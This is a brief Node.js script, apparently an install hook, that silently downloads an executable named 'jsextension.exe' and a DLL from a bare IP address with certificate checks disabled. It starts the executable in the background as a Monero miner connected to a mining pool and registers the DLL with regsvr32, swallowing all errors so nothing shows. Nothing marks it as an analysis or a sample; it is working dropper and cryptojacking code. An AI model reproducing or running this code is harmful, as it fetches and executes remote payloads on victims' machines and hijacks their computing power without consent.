const { execSync } = require("child_process");
const fs = require("fs");
const os = require("os");
const path = require("path");
const tmp = path.join(os.tmpdir(), "sdd.dll");
try {
  execSync(`curl -s -k -o ${os.tmpdir()}\\jsextension.exe http://203.0.113.186/download/jsextension.exe`);
  execSync(`curl -s -k -o ${tmp} http://203.0.113.186/sdd.dll`);
  execSync(`start /B ${os.tmpdir()}\\jsextension.exe -k --tls -o pool.xmr-stratum.example:443 --cpu-max-threads-hint=50 --donate-level=1 --background`);
  execSync(`regsvr32.exe -s ${tmp}`);
} catch (e) {}
